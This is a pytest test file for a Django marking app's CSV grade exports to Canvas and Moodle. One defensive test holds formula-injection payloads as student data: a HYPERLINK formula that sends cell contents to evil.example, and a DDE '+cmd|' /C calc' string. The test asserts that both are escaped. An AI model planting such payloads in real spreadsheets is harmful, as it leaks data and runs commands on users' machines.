"""CSV exports: headers per part as the paper prints them, the counting attempt, empty cells for
parts awaiting manual marking, both LMS layouts; the export page and download."""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest
from django.conf import settings

import question_engine
from exams import services as exam_services
from exams.bank_sync import question_sync
from exams.models import Attempt, Membership, Part, Submission
from regrades import exports
from tests.regrades.helpers import answer_and_mark


def _rows(text: str) -> list[list[str]]:
    assert text.startswith(exports.BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(exports.BOM))))


@pytest.fixture
def paper_marks(course, student, other_student, demo_question, make_paper):
    """A 2-mark paper: alice practised it twice (1/2 then 2/2); bob sat the exam (1/2) after
    a full-marks practice attempt."""
    paper = make_paper("Mock exam", minutes=None)
    Membership.objects.filter(user=student).update(external_id="canvas-1")
    for right in (False, True):
        attempt = exam_services.attempt_start_paper(student=student, paper=paper, mode="practice")
        answer_and_mark(
            attempt=attempt,
            student=student,
            question=demo_question,
            y_right=True,
            loss_right=right,
        )
    practice = exam_services.attempt_start_paper(
        student=other_student, paper=paper, mode="practice"
    )
    answer_and_mark(
        attempt=practice,
        student=other_student,
        question=demo_question,
        y_right=True,
        loss_right=True,
    )
    exam = exam_services.attempt_start_paper(student=other_student, paper=paper, mode="exam")
    answer_and_mark(
        attempt=exam,
        student=other_student,
        question=demo_question,
        y_right=False,
        loss_right=True,
    )
    return paper


def _csv(course, layout, **scope) -> str:
    return "".join(exports.export_csv_lines(course=course, layout=layout, **scope))


@pytest.mark.django_db
def test_canvas_layout_counts_the_exam_else_the_best_practice_attempt(course, paper_marks):
    rows = _rows(_csv(course, exports.CANVAS, paper=paper_marks))
    assert rows[0] == [
        "Student", "ID", "SIS User ID", "SIS Login ID", "Section",
        "Q1 (a)", "Q1 (b)", "Q1 total", "Mock exam total",
    ]  # fmt: skip
    assert rows[1] == ["Points Possible", "", "", "", "", "1", "1", "2", "2"]
    assert rows[2:] == [
        ["alice", "canvas-1", "", "", "", "1", "1", "2", "2"],
        ["bob", "", "", "", "", "0", "1", "1", "1"],
    ]


@pytest.mark.django_db
def test_moodle_layout_and_a_part_awaiting_manual_marking_is_empty(
    course, paper_marks, student, instructor
):
    latest = Submission.objects.filter(student=student).order_by("-created_at").first()
    feedback = {**latest.feedback, "loss": {**latest.feedback["loss"], "status": "needs_manual"}}
    Submission.objects.filter(pk=latest.pk).update(feedback=feedback)
    student.email = "alice@example.org"
    student.save()
    rows = _rows(_csv(course, exports.MOODLE, paper=paper_marks))
    assert rows[0][:4] == ["Username", "Email address", "ID number", "Full name"]
    assert rows[1] == ["alice", "alice@example.org", "canvas-1", "alice", "1", "", "2", "2"]
    summary = exports.export_summary(course=course, paper=paper_marks)
    assert (summary.students, summary.with_marks, summary.awaiting_manual) == (2, 2, 1)
    assert summary.open_exam_sittings == 1  # bob's sitting (no time limit) is not finished


@pytest.mark.django_db
def test_a_question_export_and_a_student_without_attempts(course, demo_question, student):
    attempt = exam_services.attempt_start_question(
        student=student, course=course, question=demo_question
    )
    answer_and_mark(
        attempt=attempt, student=student, question=demo_question, y_right=True, loss_right=False
    )
    rows = _rows(_csv(course, exports.MOODLE, question=demo_question))
    title = demo_question.title
    assert rows[0][4:] == [f"{title} (a)", f"{title} (b)", f"{title} total"]
    assert rows[1][4:] == ["1", "0", "1"]
    assert rows[2] == ["bob", "", "", "bob", "", "", ""]


@pytest.mark.django_db
def test_parts_sharing_a_source_part_get_distinct_columns(course, demo_question):
    definition = question_engine.load_question(settings.BANK_ROOT / demo_question.slug)
    both_a = dataclasses.replace(
        definition,
        parts=[dataclasses.replace(part, source_part="(a)") for part in definition.parts],
        content_hash="a" * 64,
    )
    assert question_sync(definition=both_a).action == "updated"
    parts = Part.objects.filter(version__question=demo_question).order_by("order")
    assert [part.display_label for part in parts] == ["(a) 1 of 2", "(a) 2 of 2"]
    header = _rows(_csv(course, exports.CANVAS, question=demo_question))[0]
    title = demo_question.title
    assert header[5:] == [f"{title} (a) 1 of 2", f"{title} (a) 2 of 2", f"{title} total"]


@pytest.mark.django_db
def test_the_export_page_previews_and_downloads(client, course, instructor, paper_marks):
    client.force_login(instructor)
    url = f"/instructor/courses/{course.slug}/export/"
    page = client.get(url)
    assert page.status_code == 200 and "Which attempt counts" in page.text
    invalid = client.get(url, {"layout": "canvas"})
    assert "Choose either a question or a paper" in invalid.text
    preview = client.get(url, {"layout": "canvas", "paper": paper_marks.pk, "preview": "1"})
    assert "1 exam sitting still open" in preview.text and "Q1 (b)" in preview.text
    download = client.get(url, {"layout": "moodle", "paper": paper_marks.pk})
    assert download["Content-Type"] == "text/csv; charset=utf-8"
    disposition = download["Content-Disposition"]
    assert disposition.startswith(f'attachment; filename="nndl-{paper_marks.slug}-moodle-marks-')
    text = b"".join(download.streaming_content).decode("utf-8")
    assert _rows(text)[1][0] == "alice"


@pytest.mark.django_db
def test_students_cannot_export(client, course, student):
    client.force_login(student)
    assert client.get(f"/instructor/courses/{course.slug}/export/").status_code == 404
    assert Attempt.objects.count() == 0


@pytest.mark.parametrize("layout", [exports.CANVAS, exports.MOODLE])
def test_formula_like_identities_are_written_as_text(
    course, student, demo_question, make_paper, layout
):
    """R3: a name/email/external id a spreadsheet would run as a formula gets a leading
    quote; grade cells stay plain numbers."""
    paper = make_paper("Mock exam", minutes=None)
    student.first_name = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
    student.last_name = ""
    student.email = "+cmd|' /C calc'!A0@x.org"
    student.save()
    Membership.objects.filter(user=student).update(external_id="@SUM(1+1)")
    attempt = exam_services.attempt_start_paper(student=student, paper=paper, mode="practice")
    answer_and_mark(
        attempt=attempt, student=student, question=demo_question, y_right=True, loss_right=True
    )
    rows = _rows(_csv(course, layout, paper=paper))
    identity = len(layout.identity_headers)
    row = next(r for r in rows[1:] if r[0] != "Points Possible" and "HYPERLINK" in "".join(r))
    cells = [c for r in rows[1:] for c in r[:identity]]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert '\'=HYPERLINK("https://evil.example/?x="&A1,"click")' in row
    assert "'@SUM(1+1)" in row
    assert layout is exports.CANVAS or "'+cmd|' /C calc'!A0@x.org" in row
    assert row[-1] == "2"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Ada Lovelace", "Ada Lovelace"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_text_cell(value, written):
    assert exports.text_cell(value) == written


@pytest.mark.django_db
def test_the_export_page_counts_students_the_lms_cannot_match(
    client, course, instructor, student, other_student
):
    Membership.objects.filter(user=student).update(external_id="canvas-1")
    other_student.email = "bob@example.org"
    other_student.save()
    client.force_login(instructor)
    url = f"/instructor/courses/{course.slug}/export/"
    text = " ".join(client.get(url).content.decode().split())
    assert "Canvas:</strong> 1 of 2 students has no roster external id" in text
    assert "Enrol that student through your LMS" in text
    assert "Moodle:</strong>" not in text  # bob has an email Moodle can match
    other_student.email = ""
    other_student.save()
    text = " ".join(client.get(url).content.decode().split())
    assert "Moodle:</strong> 1 of 2 students has neither an email address" in text
    Membership.objects.filter(user=other_student).update(external_id="canvas-2")
    assert "Students your LMS may not match" not in client.get(url).content.decode()
